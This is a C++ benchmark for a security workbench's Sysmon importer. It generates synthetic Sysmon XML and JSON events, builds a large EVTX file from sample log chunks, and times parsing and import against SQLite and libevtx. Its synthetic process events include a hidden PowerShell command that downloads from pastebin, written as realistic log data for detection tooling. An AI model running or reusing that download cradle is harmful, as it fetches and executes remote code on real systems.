// Sysmon import benchmark: generates Sysmon events as wevtutil-style XML and as NXLog-style JSON
// lines, then measures (median of 3) the parser alone in this process and a whole
// `socwb-cli import` (process graph, indexes, attribution) with its peak RSS, beside SQLite's
// floor for the rows stored. EVTX is binary XML that nothing here writes, so a large .evtx is
// made of the real files' chunks in ../shared/data: an EVTX chunk is self-contained (64 KiB with
// its own string and template tables), so the used chunks of the four 1 MB Sysmon files, one after
// the other and over again behind one file header, make a valid log of any size (`--evtx-mb`,
// 100 by default). Its whole import is compared with libevtx's own `evtxexport -f xml` of the
// same file, the reference for "as fast as libevtx allows".
#include "bench_support.h"
#include "ingest/read/format_registry.h"

#include <QCoreApplication>
#include <QDir>
#include <QElapsedTimer>
#include <QFileInfo>
#include <QTemporaryDir>

#include <algorithm>
#include <cstdio>
#include <fstream>
#include <string>
#include <vector>

using namespace socwb;

namespace {

struct CountingSink : RecordSink {
    int64_t events = 0, rejects = 0;
    void proxy(const ProxyRecord&) override {}
    void dns(const DnsRecord&) override {}
    void asset(const AssetRecord&) override {}
    void sysmon(const SysmonRecord&) override { ++events; }
    void reject(SourcePos, std::string_view, std::string_view) override { ++rejects; }
};

struct Field {
    std::string name, value;
};

// The data fields of event i: a realistic mix of EID 3 (40 %), 22 (30 %), 11 (20 %) and 1 (10 %).
int eventFields(int i, std::vector<Field>& f, std::string& computer, std::string& utc) {
    f.clear();
    const int host = i % 50;
    const int proc = (i / 7) % 2000;
    char guid[64], buf[64];
    std::snprintf(guid, sizeof guid, "{4d8c1a2b-%04x-65e1-0000-0010%08x}", host, proc);
    computer = "WS-" + std::to_string(host) + ".corp.example";
    const int64_t ms = int64_t(i) * 37;
    std::snprintf(buf, sizeof buf, "2024-03-%02d %02d:%02d:%02d.%03d", 1 + int(ms / 86400000), int(ms / 3600000 % 24),
                  int(ms / 60000 % 60), int(ms / 1000 % 60), int(ms % 1000));
    utc = buf;
    const std::string image = proc % 3 ? R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)"
                                       : R"(C:\Program Files\Google\Chrome\Application\chrome.exe)";
    f.push_back({"RuleName", "-"});
    f.push_back({"UtcTime", utc});
    f.push_back({"ProcessGuid", guid});
    f.push_back({"ProcessId", std::to_string(1000 + proc)});
    const int kind = i % 10;
    if (kind < 4) {
        f.push_back({"Image", image});
        f.push_back({"User", R"(CORP\alice)"});
        f.push_back({"Protocol", "tcp"});
        f.push_back({"Initiated", "true"});
        f.push_back({"SourceIsIpv6", "false"});
        f.push_back({"SourceIp", "10.1." + std::to_string(host) + ".7"});
        f.push_back({"SourceHostname", computer});
        f.push_back({"SourcePort", std::to_string(49152 + i % 16000)});
        f.push_back({"SourcePortName", "-"});
        f.push_back({"DestinationIsIpv6", "false"});
        f.push_back({"DestinationIp", "151.101." + std::to_string(i % 200) + ".133"});
        f.push_back({"DestinationHostname", "-"});
        f.push_back({"DestinationPort", "443"});
        f.push_back({"DestinationPortName", "https"});
        return 3;
    }
    if (kind < 7) {
        f.push_back({"QueryName", "cdn" + std::to_string(i % 300) + ".example.com"});
        f.push_back({"QueryStatus", "0"});
        f.push_back({"QueryResults", "type:  5 edge.example.net;::ffff:151.101." + std::to_string(i % 200) + ".133;"});
        f.push_back({"Image", image});
        f.push_back({"User", R"(CORP\alice)"});
        return 22;
    }
    if (kind < 9) {
        f.push_back({"Image", image});
        f.push_back({"TargetFilename", R"(C:\Users\alice\AppData\Local\Temp\tmp)" + std::to_string(i) + ".txt"});
        f.push_back({"CreationUtcTime", utc});
        f.push_back({"User", R"(CORP\alice)"});
        return 11;
    }
    f.push_back({"FileVersion", "10.0.19041.1"});
    f.push_back({"Description", "Windows PowerShell"});
    f.push_back({"Product", "Microsoft Windows Operating System"});
    f.push_back({"Company", "Microsoft Corporation"});
    f.push_back({"OriginalFileName", "PowerShell.EXE"});
    f.push_back({"Image", image});
    f.push_back(
        {"CommandLine", "powershell.exe -nop -w hidden -c \"iwr https://pastebin.com/raw/" + std::to_string(i) + "\""});
    f.push_back({"CurrentDirectory", R"(C:\Users\alice\)"});
    f.push_back({"User", R"(CORP\alice)"});
    f.push_back({"LogonGuid", "{4d8c1a2b-0000-65e1-0000-0020e8030000}"});
    f.push_back({"LogonId", "0x3e8"});
    f.push_back({"TerminalSessionId", "1"});
    f.push_back({"IntegrityLevel", "Medium"});
    f.push_back({"Hashes", "SHA256=9E57914D39FBFE785C915E225011892613C4714C9E57914D39FBFE785C915E22,IMPHASH="
                           "B6789EDFE23DDA911AE37C87444D3DCB"});
    f.push_back({"ParentProcessGuid", "{4d8c1a2b-0000-65e1-0000-001000000001}"});
    f.push_back({"ParentProcessId", "900"});
    f.push_back({"ParentImage", R"(C:\Windows\explorer.exe)"});
    f.push_back({"ParentCommandLine", R"(C:\Windows\Explorer.EXE)"});
    return 1;
}

std::string jsonEscape(const std::string& s) {
    std::string o;
    for (char c : s) {
        if (c == '"' || c == '\\') {
            o.push_back('\\');
        }
        o.push_back(c);
    }
    return o;
}

std::string xmlEscape(const std::string& s) {
    std::string o;
    for (char c : s) {
        if (c == '&') {
            o += "&amp;";
        } else if (c == '<') {
            o += "&lt;";
        } else if (c == '"') {
            o += "&quot;";
        } else {
            o.push_back(c);
        }
    }
    return o;
}

void generate(const std::string& xmlPath, const std::string& jsonPath, int n) {
    std::ofstream xml(xmlPath), json(jsonPath);
    std::vector<Field> f;
    std::string computer, utc, iso;
    for (int i = 0; i < n; ++i) {
        const int id = eventFields(i, f, computer, utc);
        iso = utc;
        iso[10] = 'T';
        xml << "<Event xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><System><Provider "
               "Name=\"Microsoft-Windows-Sysmon\" Guid=\"{5770385f-c22a-43e0-bf4c-06f5698ffbd9}\"/><EventID>"
            << id << "</EventID><Version>5</Version><Level>4</Level><Task>" << id
            << "</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime=\"" << iso
            << "0000Z\"/><EventRecordID>" << i + 1
            << "</EventRecordID><Correlation/><Execution ProcessID=\"2780\" "
               "ThreadID=\"3676\"/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>"
            << computer << "</Computer><Security UserID=\"S-1-5-18\"/></System><EventData>";
        for (const Field& x : f) {
            xml << "<Data Name=\"" << x.name << "\">" << xmlEscape(x.value) << "</Data>";
        }
        xml << "</EventData></Event>";
        json << "{\"EventTime\":\"" << utc.substr(0, 19) << "\",\"Hostname\":\"" << computer
             << "\",\"Keywords\":-9223372036854775808,\"EventType\":\"INFO\",\"SeverityValue\":2,\"Severity\":\"INFO\","
                "\"EventID\":"
             << id
             << ",\"SourceName\":\"Microsoft-Windows-Sysmon\",\"ProviderGuid\":\"{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"
                "\","
                "\"Version\":5,\"Task\":"
             << id << ",\"OpcodeValue\":0,\"RecordNumber\":" << i + 1
             << ",\"ExecutionProcessID\":2780,\"ExecutionThreadID\":3676,\"Channel\":\"Microsoft-Windows-Sysmon/"
                "Operational\","
                "\"Domain\":\"NT "
                "AUTHORITY\",\"AccountName\":\"SYSTEM\",\"UserID\":\"S-1-5-18\",\"AccountType\":\"User\"";
        for (const Field& x : f) {
            json << ",\"" << x.name << "\":\"" << jsonEscape(x.value) << "\"";
        }
        json << "}\n";
        if (i % 1000 == 999) {
            xml << "\n"; // wevtutil writes long lines; break them now and then like an editor would not
        }
    }
}

// Writes an EVTX of at least `mb` MB made of the real files' used chunks, cycled; false when the
// shared data is absent. The file header is the first file's with the chunk count and last chunk
// number set and its CRC32 recomputed (libevtx checks it).
bool buildEvtx(const QString& out, int mb) {
    // As the tests find it: SOCWB_SHARED_DATA_DIR, else beside the source tree.
    const QString sharedData = qEnvironmentVariableIsSet("SOCWB_SHARED_DATA_DIR")
                                   ? qEnvironmentVariable("SOCWB_SHARED_DATA_DIR")
                                   : QStringLiteral(SOCWB_SOURCE_DIR "/../shared/data");
    const char* sources[] = {"PanacheSysmon_vs_AtomicRedTeam01", "Sysmon_UACME_64", "bits_openvpn",
                             "panache_sysmon_vs_EDRTestingScript"};
    QByteArray header;
    std::vector<QByteArray> chunks;
    for (const char* name : sources) {
        QFile f(QStringLiteral("%1/sysmon/evtx/%2.evtx").arg(sharedData, QLatin1String(name)));
        if (!f.open(QIODevice::ReadOnly)) {
            return false;
        }
        const QByteArray bytes = f.readAll();
        if (header.isEmpty()) {
            header = bytes.left(4096);
        }
        for (qsizetype at = 4096; at + 65536 <= bytes.size(); at += 65536) {
            if (bytes.mid(at, 8) == QByteArray("ElfChnk\0", 8)) {
                chunks.push_back(bytes.mid(at, 65536));
            }
        }
    }
    const int count = int((int64_t(mb) * 1000000 + 65535) / 65536);
    if (chunks.empty() || header.size() < 128 || count > 65535) {
        return false;
    }
    auto put = [&](int at, uint64_t v, int bytes) {
        for (int i = 0; i < bytes; ++i) {
            header[at + i] = char((v >> (8 * i)) & 0xff);
        }
    };
    put(8, 0, 8);               // first chunk number
    put(16, count - 1, 8);      // last chunk number
    put(42, count, 2);          // number of chunks
    uint32_t crc = 0xffffffffu; // CRC32 (the zlib/IEEE one) of the first 120 bytes
    for (int i = 0; i < 120; ++i) {
        crc ^= uint8_t(header[i]);
        for (int k = 0; k < 8; ++k) {
            crc = (crc >> 1) ^ (0xedb88320u & (0u - (crc & 1u)));
        }
    }
    put(124, ~crc, 4);
    QFile f(out);
    if (!f.open(QIODevice::WriteOnly)) {
        return false;
    }
    f.write(header);
    for (int i = 0; i < count; ++i) {
        f.write(chunks[size_t(i) % chunks.size()]);
    }
    return true;
}

double medianOf(std::vector<double> v) {
    std::sort(v.begin(), v.end());
    return v[v.size() / 2];
}

// Events per second for the parser alone, median of 3 (and the count, for checking).
double parseRate(const char* format, const QString& path, int repeat, int64_t& events) {
    const FormatInfo* f = findFormat(QString::fromLatin1(format));
    std::vector<double> rates;
    for (int run = 0; run < 3; ++run) {
        QElapsedTimer t;
        t.start();
        CountingSink sink;
        for (int r = 0; r < repeat; ++r) {
            auto parser = f->create(ParserOptions{});
            InputReader in(path);
            parser->parse(in, sink, {});
        }
        rates.push_back(double(sink.events) / (double(t.nsecsElapsed()) / 1e9));
        events = sink.events / repeat;
        if (sink.rejects) {
            std::printf("  !! %lld rejects\n", static_cast<long long>(sink.rejects));
        }
    }
    return medianOf(rates);
}

} // namespace

int main(int argc, char** argv) {
    QCoreApplication app(argc, argv);
    const int n = argc > 1 ? std::atoi(argv[1]) : 200000;
    QTemporaryDir dir;
    dir.setAutoRemove(!app.arguments().contains(QLatin1String("--keep"))); // --keep: leave the inputs for profiling
    if (!dir.autoRemove()) {
        std::fprintf(stderr, "bench_sysmon: inputs kept in %s\n", qPrintable(dir.path()));
    }
    // --cli PATH: another build's socwb-cli (an earlier one, for "before" figures on the same inputs).
    const std::string cli = bench::option(argc, argv, "cli", SOCWB_CLI_PATH);
    const std::string xml = dir.filePath(QStringLiteral("events.xml")).toStdString();
    const std::string json = dir.filePath(QStringLiteral("events.json")).toStdString();
    std::printf("bench_sysmon: %d generated Sysmon events (40%% EID 3, 30%% EID 22, 20%% EID 11, 10%% EID 1), "
                "2 cores, median of 3\n",
                n);
    // --evtx-only / --no-evtx: one half of the bench, for quick A/B runs.
    const bool evtxOnly = app.arguments().contains(QLatin1String("--evtx-only"));
    if (!evtxOnly) {
        generate(xml, json, n);
    }
    for (const auto& [format, path] : {std::pair{"sysmon-xml", xml}, std::pair{"sysmon-json", json}}) {
        if (evtxOnly) {
            break;
        }
        const QString qpath = QString::fromStdString(path);
        const double mb = double(QFileInfo(qpath).size()) / 1e6;
        int64_t events = 0;
        const double parse = parseRate(format, qpath, 1, events);
        if (app.arguments().contains(QLatin1String("--parse-only"))) { // for quick A/B runs while tuning parsers
            std::printf("%-12s parse only: %9.0f events/s\n", format, parse);
            continue;
        }
        std::vector<bench::Measure> imports;
        for (int run = 0; run < 3; ++run) {
            const std::string c = dir.filePath(QStringLiteral("case%1.socwb").arg(run)).toStdString();
            imports.push_back(bench::runChild({cli, "import", c, path, "--format", format}));
            if (run < 2) {
                QFile::remove(QString::fromStdString(c));
            }
        }
        const bench::Measure m = bench::median(imports);
        // The last run's case: what SQLite alone needs to store those event, process, connection and
        // DNS rows with their indexes.
        const std::string lastCase = dir.filePath(QStringLiteral("case2.socwb")).toStdString();
        const std::vector<std::string> tables{"processes", "sysmon_events", "net_connections", "dns_queries"};
        const bench::Measure floor = bench::sqliteFloor(dir.path().toStdString(), lastCase, tables);
        const bench::Measure walFloor = bench::sqliteFloor(dir.path().toStdString(), lastCase, tables, true);
        QFile::remove(QString::fromStdString(lastCase));
        std::printf("%-12s %7.1f MB  parse only: %9.0f events/s  (%lld events)   full import: %.2f s = %9.0f events/s, "
                    "peak RSS %ld MB, exit %d   goal >= 150000 events/s\n"
                    "%-12s SQLite floor (same rows + indexes, no parsing): %.2f s = %9.0f events/s; import / floor "
                    "%.2fx (goal >= 0.8x)\n"
                    "%-12s the same floor in WAL mode, checkpoint included: %.2f s = %9.0f events/s; import / WAL "
                    "floor %.2fx\n",
                    format, mb, parse, static_cast<long long>(events), m.seconds, double(events) / m.seconds,
                    m.maxRssKb / 1024, m.exitCode, "", floor.seconds, double(events) / floor.seconds,
                    floor.seconds / m.seconds, "", walFloor.seconds, double(events) / walFloor.seconds,
                    walFloor.seconds / m.seconds);
    }
    if (app.arguments().contains(QLatin1String("--no-evtx"))) {
        return 0;
    }
    const QString evtx = dir.filePath(QStringLiteral("big.evtx"));
    const int evtxMb = std::atoi(bench::option(argc, argv, "evtx-mb", "100").c_str());
    if (!buildEvtx(evtx, evtxMb)) {
        std::printf("evtx: ../shared/data is absent, no real .evtx chunks to build from\n");
        return 0;
    }
    const double evtxBytes = double(QFileInfo(evtx).size());
    int64_t events = 0;
    const double parse = parseRate("evtx", evtx, 1, events);
    std::vector<bench::Measure> ref, imports;
    for (int run = 0; run < 3; ++run) {
        ref.push_back(bench::runChild({"/bin/sh", "-c", "evtxexport -f xml '" + evtx.toStdString() + "' >/dev/null"}));
        const std::string c = dir.filePath(QStringLiteral("evtx%1.socwb").arg(run)).toStdString();
        imports.push_back(bench::runChild({cli, "import", c, evtx.toStdString(), "--format", "evtx"}));
        QFile::remove(QString::fromStdString(c));
    }
    const bench::Measure r = bench::median(ref);
    const bench::Measure m = bench::median(imports);
    std::printf(
        "%-12s %7.1f MB of real chunks (%lld records): parse only %9.0f events/s; full import %.2f s = "
        "%9.0f events/s, CPU %.2f s, peak RSS %ld MB, exit %d\n"
        "%-12s reference evtxexport -f xml: %.2f s = %9.0f records/s; import / reference: %.2fx   goal >= 1.5x\n",
        "evtx", evtxBytes / 1e6, static_cast<long long>(events), parse, m.seconds, double(events) / m.seconds,
        m.cpuSeconds, m.maxRssKb / 1024, m.exitCode, "", r.seconds, double(events) / r.seconds, r.seconds / m.seconds);
    return 0;
}